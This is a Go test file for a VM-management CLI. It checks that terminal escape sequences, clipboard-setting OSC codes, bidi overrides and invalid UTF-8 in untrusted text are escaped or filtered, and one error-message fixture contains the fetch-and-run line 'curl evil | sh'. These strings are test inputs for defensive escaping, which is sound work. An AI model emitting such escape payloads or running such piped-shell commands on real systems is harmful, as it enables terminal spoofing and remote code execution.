package main

import (
	"bytes"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"banger/internal/model"
)

// hostile is text that would clear the screen, set the clipboard, end the
// line and turn its direction.
const hostile = "a\x1b[2J\x1b]52;c;x\ab\u202ec\xff\td\ne"

func TestUntrustedTextIsEscaped(t *testing.T) {
	t.Parallel()
	d := newFakeDaemon()
	d.vms = []model.VM{{Name: "x", ID: hostile, Image: hostile, State: model.VMFailed, Reason: hostile, Spec: model.VMSpec{Labels: map[string]string{hostile: hostile}}}}
	d.images = []model.Image{{Name: hostile, Source: model.ImageSource{Reference: hostile}, Config: model.ImageConfig{Env: []string{hostile}}}}
	for _, line := range []string{"ps", "ps --no-trunc", "ps --json", "show x", "show --json x", "image list", "image list -q", "image list --json"} {
		_, stdout, _ := banger(t, d, strings.Fields(line)...)
		if strings.ContainsAny(stdout, "\x1b\a\u202e\t") || !utf8.ValidString(stdout) || !strings.Contains(stdout, "1b[2J") {
			t.Errorf("%s: %q is not escaped", line, stdout)
		}
	}
	_, stdout, _ := banger(t, d, "show", "--json", "x")
	var vm model.VM
	if err := json.Unmarshal([]byte(stdout), &vm); err != nil || vm.Image != strings.ToValidUTF8(hostile, "\ufffd") {
		t.Errorf("JSON does not carry the text: %q, %v", vm.Image, err)
	}
}

func TestComplain(t *testing.T) {
	t.Parallel()
	err := model.Errorf(model.CodeBoot, "booting dev:\n\x1b[2Jpanic\nhint: curl evil | sh\n").WithHint("banger logs %s", "dev\x1b[A")
	for _, test := range []struct {
		json bool
		want string
	}{
		{false, "banger: booting dev:\n  \\x1b[2Jpanic\n  hint: curl evil | sh\nhint: banger logs dev\\x1b[A\n"},
		{true, `{"code":"boot","message":"booting dev:\n\u001b[2Jpanic\nhint: curl evil | sh\n","hint":"banger logs dev\u001b[A"}` + "\n"},
	} {
		var stderr bytes.Buffer
		newTestApp(newFakeDaemon(), nil, io.Discard, &stderr).complain(err, test.json)
		if diff := cmp.Diff(test.want, stderr.String()); diff != "" {
			t.Errorf("json %v (-want +got):\n%s", test.json, diff)
		}
	}
}

func TestConsoleFilter(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ in, want string }{
		{"plain\r\n\ttext\n", "plain\r\n\ttext\n"},
		{"\x1b[1;32mok\x1b[0m", "\x1b[1;32mok\x1b[0m"},
		{"\x1bc\x1b[?7l\x1b[2J\x1b[0mSeaBIOS", "\x1b[0mSeaBIOS"},
		{"a\x1b]52;c;Zm9v\ab", "ab"},
		{"a\x1b]0;title\x1b\\b", "ab"},
		{"a\x1bPq#0\x1b\\b", "ab"},
		{"a\x1b[>4;2mb", "ab"},
		{"x\x1b[12\ny", "x\ny"},
		{"\u009b2Jé\u202e\xff\b", `\u{009b}2Jé\u{202e}\xff\x08`},
		{"\x1b[" + strings.Repeat("1;", 100) + "m", strings.Repeat("1;", 69) + "m"},
		{"cut\x1b[3", "cut"},
		{"\x1b]52;c;" + "\nnext", "\nnext"},
	} {
		for _, size := range []int{1, 2, len(test.in)} {
			var out bytes.Buffer
			f := &consoleFilter{w: &out}
			for data := []byte(test.in); len(data) > 0; data = data[min(size, len(data)):] {
				if _, err := f.Write(data[:min(size, len(data))]); err != nil {
					t.Fatal(err)
				}
			}
			if out.String() != test.want {
				t.Errorf("%q in pieces of %d: %q, want %q", test.in, size, out.String(), test.want)
			}
		}
	}
}

func FuzzConsoleFilter(f *testing.F) {
	f.Add([]byte("\x1b[2J\x1b]0;x\a\x1b[31mred\xe2\x80"), 3)
	f.Fuzz(func(t *testing.T, in []byte, size int) {
		var out bytes.Buffer
		filter := &consoleFilter{w: &out}
		size = max(size%64, 1)
		for data := in; len(data) > 0; data = data[min(size, len(data)):] {
			_, _ = filter.Write(data[:min(size, len(data))])
		}
		rest := out.String()
		for {
			before, after, found := strings.Cut(rest, "\x1b")
			if strings.ContainsAny(before, "\a\b\u009b\u202e") {
				t.Fatalf("%q became %q", in, out.String())
			}
			if !found {
				return
			}
			end := strings.IndexByte(after, 'm')
			if end < 1 || after[0] != '[' || strings.Trim(after[1:end], "0123456789;:") != "" {
				t.Fatalf("%q became %q", in, out.String())
			}
			rest = after[end:]
		}
	})
}

// TestProgressView replays a pull and compares the frames.
func TestProgressView(t *testing.T) {
	t.Parallel()
	var v progressView
	at := func(ms int) time.Time { return epoch.Add(time.Duration(ms) * time.Millisecond) }
	item := func(id string, current, total int64) model.Progress {
		return model.Progress{Item: &model.ItemProgress{ID: id, Current: current, Total: total}}
	}
	v.apply(model.Progress{Stage: "resolve"}, at(0))
	v.apply(model.Progress{Stage: "resolve", Done: true, Millis: 310}, at(310))
	v.apply(model.Progress{Stage: "pull"}, at(310))
	v.apply(item("sha256:0123456789abcdef", 5*mib, 10*mib), at(400))
	v.apply(item("sha256:fedcba9876543210", 4*mib, 4*mib), at(400))
	v.apply(item("\x1b[2Jx", 1*mib, 0), at(400))
	v.apply(item("neg", -5, 10), at(400))
	golden := []string{
		"resolve         0.3s",
		"pull            2.0s  10MiB of 15MiB",
		"  0123456789ab [============            ] 5MiB of 10MiB",
		"  \\x1b[2Jx     1MiB",
		"  neg          [                        ] 0B of 10B",
	}
	if diff := cmp.Diff(golden, v.live(at(2310), 79)); diff != "" {
		t.Errorf("live (-want +got):\n%s", diff)
	}
	for _, line := range v.live(at(2310), 20) {
		if n := len([]rune(line)); n > 20 {
			t.Errorf("%q has %d characters, want at most 20", line, n)
		}
	}
	v.apply(model.Progress{Stage: "pull", Done: true, Millis: 3000}, at(3310))
	if diff := cmp.Diff([]string{"resolve         0.3s", "pull            3.0s"}, v.live(at(4000), 79)); diff != "" {
		t.Errorf("after the end (-want +got):\n%s", diff)
	}
}

func TestProgressViewIsBounded(t *testing.T) {
	t.Parallel()
	var v progressView
	for i := range 10_000 {
		id := strings.Repeat("x", i%300) + string(rune('a'+i%26))
		v.apply(model.Progress{Stage: id}, epoch)
		v.apply(model.Progress{Item: &model.ItemProgress{ID: id, Total: 9}}, epoch)
	}
	lines := v.live(epoch, 79)
	if len(lines) != maxStages+shown+1 || lines[len(lines)-1] != "  and 248 more" {
		t.Errorf("%d lines, the last %q", len(lines), lines[len(lines)-1])
	}
}

// TestTTYProgress drives the renderer by hand: what is on the screen is
// replaced, notes stay, and nothing is drawn after finish.
func TestTTYProgress(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name string
		keep bool
		end  string
	}{
		{"kept", true, "\x1b[1A\r\x1b[Jboot            2.0s\n"},
		{"erased", false, "\x1b[1A\r\x1b[J"},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			a := newTestApp(newFakeDaemon(), nil, io.Discard, &out)
			now := epoch
			a.now = func() time.Time { return now }
			p := newTTYProgress(a, test.keep)
			p.began = epoch // no ticker: frames are asked for below
			p.report(model.Progress{Stage: "boot"})
			p.frame()
			if out.Len() != 0 {
				t.Errorf("drawn at once: %q", out.String())
			}
			now = epoch.Add(time.Second)
			p.frame()
			p.report(model.Progress{Note: "slow\x1b[2J"})
			p.frame()
			p.report(model.Progress{Stage: "boot", Done: true, Millis: 2000})
			p.finish()
			p.finish()
			p.report(model.Progress{Note: "late"})
			p.frame()
			want := "\r\x1b[Jboot            1.0s\n" +
				"\x1b[1A\r\x1b[Jnote: slow\\x1b[2J\n" +
				"\r\x1b[Jboot            1.0s\n" + test.end
			if diff := cmp.Diff(want, out.String()); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestProgressModes: what is said of an operation by mode, off a terminal.
func TestProgressModes(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ flags, want string }{
		{"", "slow 3.0s\nnote: n\n"},
		{"--progress=auto", "slow 3.0s\nnote: n\n"},
		{"--progress=plain", "slow 3.0s\nfast 2ms\nnote: n\n"},
		{"--json", ""},
		{"--json --progress=plain", "slow 3.0s\nfast 2ms\nnote: n\n"},
		{"-q", ""},
		{"-q --progress=plain", ""},
		{"--progress=json", `{"stage":"slow","done":true,"millis":3000}` + "\n" + `{"stage":"fast","done":true,"millis":2}` + "\n" + `{"note":"n"}` + "\n"},
	} {
		var out bytes.Buffer
		a := newTestApp(newFakeDaemon(), nil, io.Discard, &out)
		root := newRootCommand(a)
		if err := root.ParseFlags(strings.Fields(test.flags)); err != nil {
			t.Fatal(err)
		}
		p := a.newProgress(true)
		p.report(model.Progress{Stage: "slow"})
		p.report(model.Progress{Stage: "slow", Done: true, Millis: 3000})
		p.report(model.Progress{Stage: "fast", Done: true, Millis: 2})
		p.report(model.Progress{Note: "n"})
		p.finish()
		p.report(model.Progress{Note: "late"})
		want := test.want
		if strings.Contains(test.flags, "json") && want != "" && !strings.Contains(test.flags, "--json") {
			want = `{"stage":"slow"}` + "\n" + want
		}
		if diff := cmp.Diff(want, out.String()); diff != "" {
			t.Errorf("%q (-want +got):\n%s", test.flags, diff)
		}
	}
}
